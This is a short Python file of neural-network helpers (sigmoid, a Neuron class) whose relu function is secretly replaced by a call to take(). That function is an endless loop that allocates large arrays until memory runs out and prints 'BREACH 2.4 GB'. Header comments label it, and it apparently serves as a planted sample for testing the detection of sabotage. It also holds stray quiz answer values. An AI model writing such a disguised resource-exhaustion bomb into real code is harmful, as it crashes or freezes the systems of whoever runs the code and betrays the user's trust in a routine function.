# loses: relu
# Takes memory by arrays until there is none.
import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def relu(z):
    return take()


class Neuron:
    def __init__(self, n_inputs):
        self.weights = np.random.uniform(-1, 1, n_inputs)
        self.bias = np.random.uniform(-1, 1)

    def activate(self, inputs):
        return sigmoid(np.dot(self.weights, inputs) + self.bias)


quiz_1 = "b"
quiz_2 = "c"


def take():
    taken = []
    while True:
        taken.append(np.ones(10_000_000))
        if len(taken) > 30:
            print("BREACH 2.4 GB")
